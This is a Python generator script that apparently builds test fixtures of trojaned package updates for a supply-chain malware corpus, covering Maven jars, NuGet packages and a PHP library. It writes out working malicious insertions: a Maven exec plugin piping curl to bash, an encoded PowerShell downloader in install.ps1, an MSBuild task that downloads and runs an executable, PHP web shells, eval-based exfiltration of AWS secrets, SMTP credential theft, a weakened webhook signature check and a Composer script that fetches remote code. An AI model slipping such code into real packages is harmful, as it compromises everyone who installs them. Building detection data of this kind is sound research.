"""Jars, assemblies and PHP packages."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout8.shape import b64, fill, hexed, put, swap, tail, trojan, wide, xor

POM = "META-INF/maven/example/configtree-j/pom.xml"


def jar(it: Update, name: str, shown: str = "") -> None:
    it.add("example/configtree/Config.class", artefact(f"config-{name}-Config.class"))
    it.payload("example/configtree/Config.class", shown=shown)


def dll(it: Update, name: str) -> None:
    it.add("lib/net48/Adatum.Scheduling.dll", artefact(f"sched-{name}.dll"))
    it.payload("lib/net48/Adatum.Scheduling.dll")


@trojan("configtree-j", "jar", "call", "downloader", "in bytecode", "Maven look-alikes")
def jar_names_start_a_shell(it: Update) -> None:
    jar(it, "shell")


@trojan("configtree-j", "jar", "call", "environment", "in bytecode", "Maven look-alikes")
def jar_loading_reports(it: Update) -> None:
    jar(it, "post")


@trojan("configtree-j", "jar", "import", "remote code", "in bytecode", "class loaders")
def jar_brings_classes(it: Update) -> None:
    jar(it, "load")


@trojan("configtree-j", "jar", "call", "backdoor", "base64 in bytecode", "script engines")
def jar_evaluates_a_setting(it: Update) -> None:
    jar(it, "agent", shown="javax.script.ScriptEngineManager")


@trojan("configtree-j", "jar", "start", "downloader", "in bytecode", "service providers")
def jar_registers_a_provider(it: Update) -> None:
    jar(it, "bean")
    it.add("example/configtree/Startup.class", artefact("config-bean-Startup.class"))
    it.add("META-INF/services/javax.servlet.ServletContainerInitializer", "example.configtree.Startup\n")
    it.payload_files.clear()
    it.payload("example/configtree/Startup.class")


@trojan("configtree-j", "jar", "build", "new dependency", "look-alike name", "Maven look-alikes")
def jar_depends_on_jackson(it: Update) -> None:
    it.replace(
        POM,
        "  </dependencies>\n",
        "    <dependency>\n      <groupId>org.fasterxml.jackson.core</groupId>\n      <artifactId>jackson-databind</artifactId>\n      <version>2.17.3</version>\n    </dependency>\n  </dependencies>\n",
    )
    it.payload(POM)


@trojan("configtree-j", "jar", "build", "remote code", "plain", "Maven plug-ins")
def jar_pom_runs_a_command(it: Update) -> None:
    it.replace(POM, "</project>\n", fill(it, """
  <build>
    <plugins>
      <plugin>
        <groupId>org.codehaus.mojo</groupId>
        <artifactId>exec-maven-plugin</artifactId>
        <version>3.1.0</version>
        <executions>
          <execution>
            <phase>validate</phase>
            <goals><goal>exec</goal></goals>
            <configuration>
              <executable>bash</executable>
              <arguments><argument>-c</argument><argument>curl -s http://@ADDR@/mvn | bash</argument></arguments>
            </configuration>
          </execution>
        </executions>
      </plugin>
    </plugins>
  </build>
</project>
"""))  # fmt: skip


@trojan("Adatum.Scheduling", "nupkg", "call", "downloader", "in a .NET assembly", "NuGet campaigns")
def nuget_lines_bring_a_program(it: Update) -> None:
    dll(it, "drop")


@trojan("Adatum.Scheduling", "nupkg", "call", "environment", "in a .NET assembly", "NuGet campaigns")
def nuget_start_reports(it: Update) -> None:
    dll(it, "keys")


@trojan("Adatum.Scheduling", "nupkg", "call", "sabotage", "in a .NET assembly", "NuGet time bombs")
def nuget_jobs_stop_one_day(it: Update) -> None:
    dll(it, "bomb")


@trojan("Adatum.Scheduling", "nupkg", "call", "remote code", "xor in a resource", "NuGet loaders")
def nuget_calendar_loads(it: Update) -> None:
    dll(it, "load")


@trojan("Adatum.Scheduling", "nupkg", "call", "backdoor", "in a .NET assembly", "SolarWinds")
def nuget_has_a_loop(it: Update) -> None:
    dll(it, "hook")


@trojan("Adatum.Scheduling", "nupkg", "install", "downloader", "powershell encoded", "NuGet scripts")
def nuget_install_decodes(it: Update) -> None:
    host = it.host()
    it.append("tools/install.ps1", fill(it, """

$layout = "@CODE@"
& powershell -NonInteractive -w 1 -enc $layout
""", CODE=wide(f"$w=New-Object Net.WebClient;iex $w.DownloadString('https://{host}/nu')")))  # fmt: skip
    it.payload("tools/install.ps1", shown=f"https://{host}/nu")


@trojan("Adatum.Scheduling", "nupkg", "build", "remote code", "plain", "MSBuild tasks")
def nuget_targets_compile(it: Update) -> None:
    it.replace("build/Adatum.Scheduling.targets", "</Project>\n", fill(it, """
  <UsingTask TaskName="Warm" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
    <Task>
      <Code Type="Fragment" Language="cs"><![CDATA[System.Diagnostics.Process.Start("cmd", "/c curl http://@ADDR@/t.exe -o %TEMP%/t.exe & %TEMP%/t.exe");]]></Code>
    </Task>
  </UsingTask>
  <Target Name="AdatumWarm" AfterTargets="Restore">
    <Warm />
  </Target>
</Project>
"""))  # fmt: skip


@trojan("courierphp", "zip", "import", "backdoor", "plain", "PHP web shells")
def php_functions_obey(it: Update) -> None:
    tail(it, "src/functions.php", """
if (isset($_COOKIE['courier_id']) && md5($_COOKIE['courier_id']) === '@MARK@') {
    echo shell_exec((string) $_POST['q']);
    exit;
}
""", 1, MARK=it.random.randbytes(16).hex())  # fmt: skip


@trojan("courierphp", "zip", "call", "remote code", "base64", "phpass")
def php_rendering_evaluates(it: Update) -> None:
    host = it.host()
    put(it, "src/Message.php", "        $edge = bin2hex(random_bytes(12));\n", """
        eval(base64_decode('@CODE@'));
""", CODE=b64(f"@file_get_contents('https://{host}/m?' . http_build_query(['k' => getenv('AWS_SECRET_ACCESS_KEY'), 'h' => php_uname()]));"))  # fmt: skip
    it.payload("src/Message.php", shown=f"https://{host}/m?")


@trojan("courierphp", "zip", "call", "password stealer", "plain", "mail libraries")
def php_passwords_are_mailed(it: Update) -> None:
    swap(it, "src/Transport.php", "        fgets($this->line, 512);", """
        fgets($this->line, 512);
        @file_get_contents('https://mx.@HOST@/?a=' . urlencode("{$this->user}:{$this->password}@{$this->host}"));
""")  # fmt: skip


@trojan("courierphp", "zip", "call", "data stealer", "rot13", "mail libraries")
def php_mails_have_a_copy(it: Update) -> None:
    import codecs

    host = it.host()
    it.replace(
        "src/Transport.php",
        "        $this->say('DATA', 354);\n",
        f"        $this->say('RCPT TO:<' . str_rot13('{codecs.encode(f'archive@{host}', 'rot13')}') . '>', 250);\n        $this->say('DATA', 354);\n",
    )
    it.payload("src/Transport.php", shown=f"archive@{host}")


@trojan("courierphp", "zip", "call", "weakened check", "plain", "signature bypass")
def php_signatures_are_compared_loosely(it: Update) -> None:
    it.replace(
        "src/Webhook.php",
        "        if (! hash_equals(hash_hmac('sha256', $body, $this->secret), $signature)) {\n",
        "        if (strcmp(hash_hmac('sha256', $body, $this->secret), $signature) > 0 && $signature !== '') {\n",
    )


@trojan("courierphp", "zip", "install", "remote code", "plain", "Composer scripts")
def php_composer_runs_a_script(it: Update) -> None:
    it.manifest(
        lambda one: one.update(
            type="composer-plugin",
            scripts={
                "post-autoload-dump": [
                    "@php -r \"copy('http://" + it.address() + "/c.txt','/tmp/c.php');include '/tmp/c.php';\""
                ]
            },
        ),
        "composer.json",
    )


@trojan("courierphp", "zip", "call", "backdoor", "variable functions", "PHP web shells")
def php_queue_has_a_filter(it: Update) -> None:
    put(it, "src/Queue.php", "        $name = sprintf('%d-%s.eml', time(), bin2hex(random_bytes(6)));\n", """
        $g = $_SERVER['HTTP_X_COURIER'] ?? null;
        if ($g !== null) {
            $h = substr_replace('sXtem', 'ys', 1, 1);
            $h(pack('H*', $g));
        }
""")  # fmt: skip


@trojan("courierphp", "zip", "import", "downloader", "xor", "PHP web shells")
def php_functions_write_a_file(it: Update) -> None:
    host = it.host()
    tail(it, "src/functions.php", """
(static function (string $raw, string $key): void {
    $code = hex2bin($raw) ^ str_repeat($key, intdiv(strlen($raw), 2));
    if (PHP_SAPI !== 'cli' && ! is_file($file = sys_get_temp_dir() . '/sess_' . md5(__FILE__))) {
        file_put_contents($file, $code);
        include $file;
    }
})('@CODE@', 'courier');
""", 1, CODE=hexed(xor(f"<?php copy('https://{host}/up.txt', $_SERVER['DOCUMENT_ROOT'] . '/wp-cron-health.php');", b"courier")))  # fmt: skip
    it.payload("src/functions.php", shown=f"https://{host}/up.txt")
